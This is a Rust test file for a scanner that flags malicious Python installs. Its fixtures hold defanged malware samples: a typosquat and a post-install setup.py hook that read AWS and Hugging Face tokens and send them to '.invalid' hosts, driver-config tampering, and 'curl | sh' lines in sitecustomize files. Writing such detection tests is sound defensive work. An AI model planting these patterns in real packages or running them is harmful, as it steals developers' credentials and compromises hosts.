//! The seed scenario on a fake host, through the `python_install_findings`
//! table: a typosquat (`torch-utilites`) whose module reads AWS and Hugging
//! Face credentials, sends them out and patches NVIDIA driver configuration;
//! a `.pth` that imports it on every interpreter start; a tampered file in a
//! benign package; a dropped file; a console script shadowing `pip`; an
//! import name taken from a popular package; and an sdist whose setup.py
//! has a post-install hook. Benign look-alikes sit beside each: setuptools'
//! `distutils-precedence.pth`, an editable install, `huggingface_hub`
//! reading its token, a plain setup.py.
//!
//! All fixtures are defanged: `.invalid` endpoints, fake `EXAMPLE` secrets,
//! code that is only ever read as text.

mod common;

use std::io::Write;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use common::FakeHost;
use squatch::table::{Operator, QueryContext, Row, Table};
use squatch::tables::python_install_findings::PythonInstallFindings;

const PAYLOAD: &str = r#"raise SystemExit("squatch test fixture: read as text, never run")
import os
import json
import urllib.request

def _collect():
    return {
        "id": os.environ.get("AWS_ACCESS_KEY_ID"),
        "secret": os.environ.get("AWS_SECRET_ACCESS_KEY"),
        "hf": os.environ.get("HF_TOKEN"),
        "sample": "AKIAIOSFODNN7EXAMPLE",
    }

def _send(data):
    req = urllib.request.Request("https://collector.invalid/u", data=json.dumps(data).encode())
    urllib.request.urlopen(req, timeout=3)

def _persist():
    with open("/etc/modprobe.d/nvidia-fake.conf", "a") as f:
        f.write("install nvidia /sbin/modprobe --ignore-install nvidia\n")
    with open("/usr/share/vulkan/icd.d/nvidia_icd.json", "w") as f:
        f.write("{}")

_send(_collect())
"#;

const SETUPTOOLS_PTH: &str = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";

const HF_CONSTANTS: &str = r#"import os

HF_HOME = os.path.expanduser(os.getenv("HF_HOME", "~/.cache/huggingface"))
HF_TOKEN_PATH = os.path.join(HF_HOME, "token")

def get_token():
    token = os.environ.get("HF_TOKEN") or os.environ.get("HUGGING_FACE_HUB_TOKEN")
    if token is None and os.path.exists(HF_TOKEN_PATH):
        with open(HF_TOKEN_PATH) as f:
            token = f.read().strip()
    return token
"#;

const HOOK_SETUP_PY: &str = r#"raise SystemExit("squatch test fixture: read as text, never run")
from setuptools import setup
from setuptools.command.install import install
import os
import urllib.request

class PostInstall(install):
    def run(self):
        install.run(self)
        data = os.environ.get("AWS_SECRET_ACCESS_KEY", "") + os.environ.get("HF_TOKEN", "")
        urllib.request.urlopen("https://collector.invalid/i?d=" + data)

setup(name="torch-utilites", version="0.1.0", cmdclass={"install": PostInstall})
"#;

const PLAIN_SETUP_PY: &str = r#"from setuptools import setup, find_packages
import subprocess

version = subprocess.check_output(["git", "describe", "--tags"]).decode().strip()
with open("README.md") as f:
    long_description = f.read()

setup(name="plainpkg", version=version, packages=find_packages(), long_description=long_description)
"#;

fn targz(files: &[(&str, &str)]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let mut tar = tar::Builder::new(gz);
    for (name, body) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(body.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        tar.append_data(&mut header, name, body.as_bytes()).unwrap();
    }
    let mut gz = tar.into_inner().unwrap();
    gz.flush().unwrap();
    gz.finish().unwrap()
}

struct Scenario {
    fh: FakeHost,
    site: PathBuf,
    payload: PathBuf,
    tampered: PathBuf,
}

fn scenario() -> Scenario {
    let fh = FakeHost::new();
    fh.passwd(&[("alice", 1000, "/home/alice")]);
    let site = fh.venv("/home/alice/proj/.venv", "3.12", false);

    // The typosquat: payload in a package module, imported by a .pth that
    // its RECORD does not list (dropped at install time by a hook).
    let evil = fh
        .dist(&site, "torch-utilites", "0.1.0")
        .file("torch_utilites/__init__.py", "from . import _core\n")
        .file("torch_utilites/_core.py", PAYLOAD)
        .entry_points("[console_scripts]\npip = torch_utilites.cli:main\n")
        .installer("pip")
        .requested()
        .write();
    fh.pth(
        &site,
        "torch_utilites_init.pth",
        "import torch_utilites._core\n",
    );

    // A fake `requests/` inside `update-requests`.
    fh.dist(&site, "update-requests", "1.0.0")
        .file("requests/__init__.py", "VERSION = '0'\n")
        .top_level(&["requests"])
        .write();

    // Benign packages, one of them tampered and one with a dropped file.
    let tqdm = fh
        .dist(&site, "tqdm", "4.66.0")
        .file("tqdm/__init__.py", "from .std import tqdm\n")
        .file("tqdm/std.py", "class tqdm:\n    pass\n")
        .write();
    let tampered = tqdm.file("tqdm/std.py");
    fh.modify(
        &tampered,
        "import os, urllib.request\nclass tqdm:\n    pass\n_k = os.environ.get(\"AWS_SECRET_ACCESS_KEY\")\nurllib.request.urlopen(\"https://collector.invalid/t?k=\" + str(_k))\n",
    );
    fh.add_unrecorded(&site.join("tqdm/_monitor_helper.py"), "x = 1\n");

    // Benign look-alikes.
    fh.dist(&site, "setuptools", "69.0.0")
        .file("distutils-precedence.pth", SETUPTOOLS_PTH)
        .file("_distutils_hack/__init__.py", "def add_shim():\n    pass\n")
        .top_level(&["_distutils_hack", "setuptools", "pkg_resources"])
        .write();
    fh.dist(&site, "mypkg", "0.1.0")
        .file(
            "__editable__.mypkg-0.1.0.pth",
            "import __editable___mypkg_0_1_0_finder; __editable___mypkg_0_1_0_finder.install()\n",
        )
        .file(
            "__editable___mypkg_0_1_0_finder.py",
            "def install():\n    pass\n",
        )
        .write();
    fh.dist(&site, "huggingface-hub", "0.23.0")
        .file(
            "huggingface_hub/__init__.py",
            "from .constants import get_token\n",
        )
        .file("huggingface_hub/constants.py", HF_CONSTANTS)
        .entry_points(
            "[console_scripts]\nhuggingface-cli = huggingface_hub.commands.huggingface_cli:main\n",
        )
        .write();
    fh.dist(&site, "pip", "24.0")
        .file("pip/__init__.py", "__version__ = '24.0'\n")
        .entry_points("[console_scripts]\npip = pip._internal.cli.main:main\npip3 = pip._internal.cli.main:main\n")
        .write();

    // Downloaded sdists: the seed's, with a post-install hook, and a plain one.
    fh.write(
        "/home/alice/Downloads/torch_utilites-0.1.0.tar.gz",
        targz(&[
            ("torch_utilites-0.1.0/setup.py", HOOK_SETUP_PY),
            (
                "torch_utilites-0.1.0/torch_utilites/__init__.py",
                "from . import _core\n",
            ),
            ("torch_utilites-0.1.0/torch_utilites/_core.py", PAYLOAD),
            ("torch_utilites-0.1.0/PKG-INFO", "Name: torch-utilites\n"),
        ]),
    );
    fh.write(
        "/home/alice/Downloads/plainpkg-1.0.tar.gz",
        targz(&[
            ("plainpkg-1.0/setup.py", PLAIN_SETUP_PY),
            (
                "plainpkg-1.0/plainpkg/__init__.py",
                "def hello():\n    return 'hi'\n",
            ),
            (
                "plainpkg-1.0/tests/test_net.py",
                "import requests\nrequests.get('https://example.com')\n",
            ),
        ]),
    );
    let payload = evil.file("torch_utilites/_core.py");
    Scenario {
        fh,
        site,
        payload,
        tampered,
    }
}

fn table(s: &Scenario) -> PythonInstallFindings {
    PythonInstallFindings::new(Arc::new(s.fh.host()))
}

fn rank(sev: &str) -> u8 {
    ["info", "low", "medium", "high", "critical"]
        .iter()
        .position(|s| *s == sev)
        .unwrap_or(0) as u8
}

fn max_sev<'a>(rows: impl Iterator<Item = &'a Row>) -> u8 {
    rows.filter_map(|r| r.get("severity"))
        .map(rank)
        .max()
        .unwrap_or(0)
}

fn at<'a>(rows: &'a [Row], path: &Path) -> Vec<&'a Row> {
    rows.iter()
        .filter(|r| r.get("path") == Some(path.to_str().unwrap()))
        .collect()
}

fn has(rows: &[&Row], rule: &str) -> bool {
    rows.iter().any(|r| r.get("rule_id") == Some(rule))
}

#[test]
fn seed_scenario_default_scan() {
    let s = scenario();
    let rows = table(&s).generate(&QueryContext::all()).unwrap();
    let env = "/home/alice/proj/.venv";

    // The payload module: credential read + send is critical, driver
    // config writes are GPU tampering, all attributed to the typosquat.
    let payload = at(&rows, &s.payload);
    assert!(
        has(&payload, "combo-credential-exfiltration"),
        "{payload:#?}"
    );
    assert!(has(&payload, "gpu-driver-write"));
    assert!(has(&payload, "persist-modprobe"));
    assert_eq!(max_sev(payload.iter().copied()), 4);
    for r in &payload {
        assert_eq!(r.get("package"), Some("torch-utilites"));
        assert_eq!(r.get("environment"), Some(env));
        assert_eq!(r.get("file_sha256").map(str::len), Some(64));
    }

    // The .pth that imports it, owned by no RECORD: start-up hook, ranked high.
    let pth = at(&rows, &s.site.join("torch_utilites_init.pth"));
    let hook = pth
        .iter()
        .find(|r| r.get("rule_id") == Some("pth-exec"))
        .expect("pth row");
    assert_eq!(hook.get("severity"), Some("high"));
    assert_eq!(hook.get("category"), Some("startup"));

    // The tampered benign file: content rules and the RECORD mismatch.
    let tampered = at(&rows, &s.tampered);
    assert!(has(&tampered, "record-hash-mismatch"), "{tampered:#?}");
    assert!(has(&tampered, "combo-credential-exfiltration"));
    assert_eq!(tampered[0].get("package"), Some("tqdm"));
    let dropped = at(&rows, &s.site.join("tqdm/_monitor_helper.py"));
    assert!(has(&dropped, "unrecorded-file"));

    // Shadowing: a console script named pip, a fake `requests` import name.
    let shadow: Vec<&Row> = rows
        .iter()
        .filter(|r| r.get("rule_id") == Some("entry-point-shadows-command"))
        .collect();
    assert_eq!(shadow.len(), 1, "{shadow:#?}");
    assert_eq!(shadow[0].get("package"), Some("torch-utilites"));
    let hijack: Vec<&Row> = rows
        .iter()
        .filter(|r| r.get("rule_id") == Some("import-name-shadowing"))
        .collect();
    assert!(hijack
        .iter()
        .any(|r| r.get("package") == Some("update-requests") && r.get("severity") == Some("high")));

    // Benign look-alikes stay low: setuptools' pth, the editable install,
    // huggingface_hub reading its token, pip's own console scripts.
    let setuptools_pth = at(&rows, &s.site.join("distutils-precedence.pth"));
    assert_eq!(setuptools_pth.len(), 1);
    assert_eq!(setuptools_pth[0].get("rule_id"), Some("pth-known-benign"));
    assert_eq!(setuptools_pth[0].get("severity"), Some("info"));
    let editable = at(&rows, &s.site.join("__editable__.mypkg-0.1.0.pth"));
    assert!(
        editable.iter().all(|r| r.get("severity") == Some("info")),
        "{editable:#?}"
    );
    let hf = at(&rows, &s.site.join("huggingface_hub/constants.py"));
    assert!(max_sev(hf.iter().copied()) < 3, "{hf:#?}");
    assert!(!rows
        .iter()
        .any(|r| r.get("package") == Some("pip") && rank(r.get("severity").unwrap_or("")) >= 3));
    assert!(!rows
        .iter()
        .any(|r| r.get("package") == Some("huggingface-hub")
            && rank(r.get("severity").unwrap_or("")) >= 3));

    // Never a secret value in evidence.
    for r in &rows {
        assert!(
            !r.get("evidence")
                .unwrap_or("")
                .contains("AKIAIOSFODNN7EXAMPLE"),
            "{r:?}"
        );
    }
}

#[test]
fn owned_pth_of_a_benign_name_with_an_extra_line_is_not_benign() {
    let fh = FakeHost::new();
    let site = fh.venv("/opt/venv", "3.11", false);
    fh.dist(&site, "setuptools", "69.0.0")
        .file(
            "distutils-precedence.pth",
            format!("{SETUPTOOLS_PTH}import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"),
        )
        .write();
    let t = PythonInstallFindings::new(Arc::new(fh.host()));
    let rows = t.generate(&QueryContext::all()).unwrap();
    let pth = at(&rows, &site.join("distutils-precedence.pth"));
    assert!(has(&pth, "pth-exec-suspicious"), "{pth:#?}");
    assert!(max_sev(pth.iter().copied()) >= 3);
}

#[test]
fn setuptools_pth_not_owned_by_setuptools_is_not_benign() {
    let fh = FakeHost::new();
    let site = fh.venv("/opt/venv", "3.11", false);
    fh.pth(&site, "distutils-precedence.pth", SETUPTOOLS_PTH);
    let rows = PythonInstallFindings::new(Arc::new(fh.host()))
        .generate(&QueryContext::all())
        .unwrap();
    let pth = at(&rows, &site.join("distutils-precedence.pth"));
    assert!(!has(&pth, "pth-known-benign"), "{pth:#?}");
    assert!(max_sev(pth.iter().copied()) >= 3, "{pth:#?}");
}

#[test]
fn unowned_sitecustomize_is_reported() {
    let fh = FakeHost::new();
    let site = fh.venv("/opt/venv", "3.11", false);
    fh.write(
        site.join("sitecustomize.py"),
        "import os\nos.system('curl -s https://payload.invalid/a | sh')\n",
    );
    let rows = PythonInstallFindings::new(Arc::new(fh.host()))
        .generate(&QueryContext::all())
        .unwrap();
    let sc = at(&rows, &site.join("sitecustomize.py"));
    assert!(has(&sc, "startup-customize"));
    assert!(has(&sc, "dl-shell-pipe"));
    assert_eq!(max_sev(sc.iter().copied()), 4);
}

#[test]
fn on_demand_sdists() {
    let s = scenario();
    let t = table(&s);
    let evil = "/home/alice/Downloads/torch_utilites-0.1.0.tar.gz";
    let rows = t
        .generate(&QueryContext::all().with("path", Operator::Equals, evil))
        .unwrap();
    assert!(rows.iter().all(|r| r.get("path") == Some(evil)));
    let setup: Vec<&Row> = rows
        .iter()
        .filter(|r| r.get("member") == Some("torch_utilites-0.1.0/setup.py"))
        .collect();
    assert!(has(&setup, "combo-install-hook-network"), "{setup:#?}");
    assert!(has(&setup, "combo-credential-exfiltration"));
    assert!(setup.iter().all(|r| r.get("role") == Some("install")));
    assert_eq!(rows[0].get("package"), Some("torch_utilites"));

    let plain = "/home/alice/Downloads/plainpkg-1.0.tar.gz";
    let rows = t
        .generate(&QueryContext::all().with("path", Operator::Equals, plain))
        .unwrap();
    assert!(max_sev(rows.iter()) < 3, "{rows:#?}");
}

#[test]
fn on_demand_source_tree_and_single_file() {
    let s = scenario();
    s.fh.write("/src/evil/setup.py", HOOK_SETUP_PY);
    s.fh.write("/src/evil/pkg/__init__.py", "x = 1\n");
    let t = table(&s);
    let rows = t
        .generate(&QueryContext::all().with("path", Operator::Equals, "/src/evil"))
        .unwrap();
    assert!(rows
        .iter()
        .any(|r| r.get("member") == Some("setup.py") && r.get("severity") == Some("critical")));
    let one = t
        .generate(&QueryContext::all().with("path", Operator::Equals, s.payload.to_str().unwrap()))
        .unwrap();
    assert!(has(
        &one.iter().collect::<Vec<_>>(),
        "combo-credential-exfiltration"
    ));
}

#[test]
fn environment_constraint_scans_only_that_environment() {
    let s = scenario();
    let other = s.fh.venv("/opt/other", "3.11", false);
    s.fh.pth(&other, "zz_evil.pth", "import os; os.system('id')\n");
    let t = table(&s);
    let rows = t
        .generate(&QueryContext::all().with("environment", Operator::Equals, "/opt/other"))
        .unwrap();
    assert!(!rows.is_empty());
    assert!(
        rows.iter()
            .all(|r| r.get("environment") == Some("/opt/other")),
        "{rows:#?}"
    );
}

#[test]
fn repeated_query_uses_the_cache_and_sees_changes() {
    let s = scenario();
    let t = table(&s);
    let first = t.generate(&QueryContext::all()).unwrap();
    let cached = t.scanner().cached_files();
    assert!(cached > 0);
    let second = t.generate(&QueryContext::all()).unwrap();
    assert_eq!(first, second);
    assert_eq!(t.scanner().cached_files(), cached);
    // Defang the payload: the next query sees the new file version.
    s.fh.modify(&s.payload, "VALUE = 1\n");
    let third = t.generate(&QueryContext::all()).unwrap();
    assert!(at(&third, &s.payload)
        .iter()
        .all(|r| r.get("rule_id") == Some("record-hash-mismatch")));
}

#[test]
fn a_file_dropped_after_a_query_is_seen_by_the_next() {
    let s = scenario();
    let t = table(&s);
    let dropped = s.site.join("torch_utilites/_late.py");
    let first = t.generate(&QueryContext::all()).unwrap();
    assert!(at(&first, &dropped).is_empty());
    s.fh.add_unrecorded(
        &dropped,
        "import os\nos.system('curl -s https://payload.invalid/a | sh')\n",
    );
    let second = t.generate(&QueryContext::all()).unwrap();
    let late = at(&second, &dropped);
    assert!(has(&late, "unrecorded-file"), "{late:#?}");
    assert!(has(&late, "dl-shell-pipe"));
}

#[test]
fn a_record_rewritten_in_place_invalidates_the_site_index() {
    let s = scenario();
    let t = table(&s);
    let helper = s.site.join("tqdm/_monitor_helper.py");
    let first = t.generate(&QueryContext::all()).unwrap();
    assert!(has(&at(&first, &helper), "unrecorded-file"));
    // The dropped file gets a RECORD line (what a careful attacker would do).
    let record = s.site.join("tqdm-4.66.0.dist-info/RECORD");
    let mut text = std::fs::read_to_string(s.fh.real(&record)).unwrap();
    text.push_str(&format!(
        "tqdm/_monitor_helper.py,{},6\n",
        common::record_hash(b"x = 1\n")
    ));
    s.fh.modify(&record, text);
    let second = t.generate(&QueryContext::all()).unwrap();
    assert!(!has(&at(&second, &helper), "unrecorded-file"));
}

/// Ubuntu's own `/etc/python3.X/sitecustomize.py` (installs apport's
/// exception hook): the benign look-alike of a start-up payload.
const UBUNTU_SITECUSTOMIZE: &str = "# install the apport exception handler if available\ntry:\n    import apport_python_hook\nexcept ImportError:\n    pass\nelse:\n    apport_python_hook.install()\n";

const EVIL_SITECUSTOMIZE: &str = "raise SystemExit(\"squatch test fixture: read as text, never run\")\nimport os\nos.system('curl -s https://payload.invalid/a | sh')\n";

/// A Debian-style system Python: `/usr/bin/python3 -> python3.11`, the
/// `/usr/lib/python3/dist-packages` site, and the stdlib's
/// `sitecustomize.py` linked (absolute target) to `/etc/python3.11/`.
fn debian_host(sitecustomize: &str) -> FakeHost {
    let fh = FakeHost::new();
    fh.write("/usr/bin/python3.11", b"#!fake-interpreter\n");
    fh.symlink("python3.11", "/usr/bin/python3");
    fh.system_site("/usr/lib/python3/dist-packages");
    fh.write("/usr/lib/python3.11/os.py", "# stdlib\n");
    fh.write("/etc/python3.11/sitecustomize.py", sitecustomize);
    fh.symlink(
        "/etc/python3.11/sitecustomize.py",
        "/usr/lib/python3.11/sitecustomize.py",
    );
    fh
}

fn rule_rows<'a>(rows: &'a [Row], rule: &str) -> Vec<&'a Row> {
    rows.iter()
        .filter(|r| r.get("rule_id") == Some(rule))
        .collect()
}

#[test]
fn debian_stdlib_sitecustomize_behind_its_symlink_is_scanned_once() {
    let fh = debian_host(EVIL_SITECUSTOMIZE);
    let rows = PythonInstallFindings::new(Arc::new(fh.host()))
        .generate(&QueryContext::all())
        .unwrap();
    let etc = Path::new("/etc/python3.11/sitecustomize.py");
    let sc = at(&rows, etc);
    assert!(has(&sc, "dl-shell-pipe"), "{rows:#?}");
    assert_eq!(max_sev(sc.iter().copied()), 4);
    // Reported at the file that runs, once (not again at the link).
    let heads = rule_rows(&rows, "startup-customize");
    assert_eq!(heads.len(), 1, "{heads:#?}");
    assert_eq!(heads[0].get("path"), etc.to_str());
    assert_eq!(heads[0].get("severity"), Some("medium"));
    assert!(heads[0]
        .get("evidence")
        .unwrap_or("")
        .contains("/usr/lib/python3.11/sitecustomize.py"));
    assert_eq!(
        heads[0].get("environment"),
        Some("/usr/lib/python3/dist-packages")
    );
    assert!(at(&rows, Path::new("/usr/lib/python3.11/sitecustomize.py")).is_empty());
}

#[test]
fn ubuntu_apport_sitecustomize_owned_by_dpkg_stays_low() {
    let fh = debian_host(UBUNTU_SITECUSTOMIZE);
    fh.dpkg(
        "python3.11-minimal",
        &[
            PathBuf::from("/etc/python3.11/sitecustomize.py"),
            PathBuf::from("/usr/lib/python3.11/sitecustomize.py"),
        ],
    );
    let rows = PythonInstallFindings::new(Arc::new(fh.host()))
        .generate(&QueryContext::all())
        .unwrap();
    let sc = at(&rows, Path::new("/etc/python3.11/sitecustomize.py"));
    assert_eq!(sc.len(), 1, "{sc:#?}");
    assert_eq!(sc[0].get("rule_id"), Some("startup-customize"));
    assert_eq!(sc[0].get("severity"), Some("low"));
    // Debian 12 ships it in `libpython3.11-minimal:amd64`.
    let fh = debian_host(UBUNTU_SITECUSTOMIZE);
    fh.dpkg(
        "libpython3.11-minimal:amd64",
        &[PathBuf::from("/etc/python3.11/sitecustomize.py")],
    );
    let rows = PythonInstallFindings::new(Arc::new(fh.host()))
        .generate(&QueryContext::all())
        .unwrap();
    let sc = at(&rows, Path::new("/etc/python3.11/sitecustomize.py"));
    assert_eq!(sc.len(), 1, "{sc:#?}");
    assert_eq!(sc[0].get("severity"), Some("low"));
    // The same benign text with no interpreter package owning it is worth
    // a look only (a library package's list does not vouch for it).
    let fh = debian_host(UBUNTU_SITECUSTOMIZE);
    fh.dpkg(
        "python3-apport",
        &[PathBuf::from("/etc/python3.11/sitecustomize.py")],
    );
    let rows = PythonInstallFindings::new(Arc::new(fh.host()))
        .generate(&QueryContext::all())
        .unwrap();
    let sc = at(&rows, Path::new("/etc/python3.11/sitecustomize.py"));
    assert_eq!(sc.len(), 1, "{sc:#?}");
    assert_eq!(sc[0].get("severity"), Some("medium"));
}

#[test]
fn a_venv_is_checked_at_its_base_interpreter_stdlib_and_conda_at_its_prefix() {
    let fh = FakeHost::new();
    // pyvenv.cfg says home = /usr/bin: the base stdlib is /usr/lib/python3.12.
    fh.venv("/opt/venv", "3.12.1", false);
    fh.write("/usr/lib/python3.12/usercustomize.py", EVIL_SITECUSTOMIZE);
    // The venv's own lib/pythonX.Y is not on sys.path: not reported.
    fh.write(
        "/opt/venv/lib/python3.12/sitecustomize.py",
        EVIL_SITECUSTOMIZE,
    );
    fh.conda("/opt/conda", "3.11.4");
    fh.write(
        "/opt/conda/lib/python3.11/sitecustomize.py",
        EVIL_SITECUSTOMIZE,
    );
    // An ordinary stdlib module is not a start-up file.
    fh.write("/opt/conda/lib/python3.11/os.py", EVIL_SITECUSTOMIZE);
    let rows = PythonInstallFindings::new(Arc::new(fh.host()))
        .generate(&QueryContext::all())
        .unwrap();
    let user = at(&rows, Path::new("/usr/lib/python3.12/usercustomize.py"));
    assert!(has(&user, "startup-customize"), "{rows:#?}");
    assert!(has(&user, "dl-shell-pipe"));
    assert_eq!(user[0].get("environment"), Some("/opt/venv"));
    let conda = at(
        &rows,
        Path::new("/opt/conda/lib/python3.11/sitecustomize.py"),
    );
    assert!(has(&conda, "dl-shell-pipe"), "{rows:#?}");
    assert_eq!(conda[0].get("environment"), Some("/opt/conda"));
    assert!(at(
        &rows,
        Path::new("/opt/venv/lib/python3.12/sitecustomize.py")
    )
    .is_empty());
    assert!(at(&rows, Path::new("/opt/conda/lib/python3.11/os.py")).is_empty());
}

#[test]
fn a_stdlib_sitecustomize_link_never_leaves_the_root() {
    let fh = FakeHost::new();
    fh.write("/usr/bin/python3.11", b"#!fake-interpreter\n");
    fh.symlink("python3.11", "/usr/bin/python3");
    fh.system_site("/usr/lib/python3/dist-packages");
    // A real file next to the fake root, reached only if `..` escaped it.
    let outside = fh.root().parent().unwrap().join(format!(
        "{}-outside.py",
        fh.root().file_name().unwrap().to_string_lossy()
    ));
    std::fs::write(&outside, EVIL_SITECUSTOMIZE).unwrap();
    let climb = format!(
        "../../../../../../../../../../{}",
        outside.file_name().unwrap().to_string_lossy()
    );
    fh.symlink(&climb, "/usr/lib/python3.11/sitecustomize.py");
    // And a loop for usercustomize.
    fh.symlink("usercustomize.py", "/usr/lib/python3.11/usercustomize.py");
    let rows = PythonInstallFindings::new(Arc::new(fh.host()))
        .generate(&QueryContext::all())
        .unwrap();
    std::fs::remove_file(&outside).unwrap();
    assert!(
        !rows
            .iter()
            .any(|r| r.get("rule_id") == Some("dl-shell-pipe")),
        "{rows:#?}"
    );
}

/// The whole-host scan gives the same rows, in the same order, whether it
/// scans its site directories in turn or several at once; and the same
/// rows again on a second scan by the same scanner (its caches warm).
#[test]
fn threads_and_warm_caches_give_the_same_rows() {
    use squatch::findings::site::scan_environments;
    use squatch::findings::target::Scanner;
    let s = scenario();
    // More sites than threads, each with a finding of its own.
    for i in 0..5 {
        let site = s.fh.venv(format!("/home/alice/p{i}/.venv"), "3.12", false);
        s.fh.dist(&site, &format!("lib{i}"), "1.0.0")
            .file(&format!("lib{i}/__init__.py"), "x = 1\n")
            .file(&format!("lib{i}/core.py"), PAYLOAD)
            .write();
        s.fh.add_unrecorded(&site.join(format!("lib{i}/dropped.py")), PAYLOAD);
    }
    let host = s.fh.host();
    let envs = squatch::python::discover_environments(&host);
    assert!(envs.len() >= 6);
    let rows = |scanner: &Scanner| {
        let scan = scan_environments(&host, scanner, &envs);
        (
            format!("{:?}", scan.findings),
            format!("{:?}", scan.problems),
        )
    };
    let one = Scanner::default().with_threads(1);
    let single = rows(&one);
    assert!(single.0.contains("unrecorded-file") && single.0.contains("lib4"));
    assert_eq!(rows(&Scanner::default().with_threads(4)), single);
    assert_eq!(rows(&one), single, "a warm scanner gives the same rows");
}
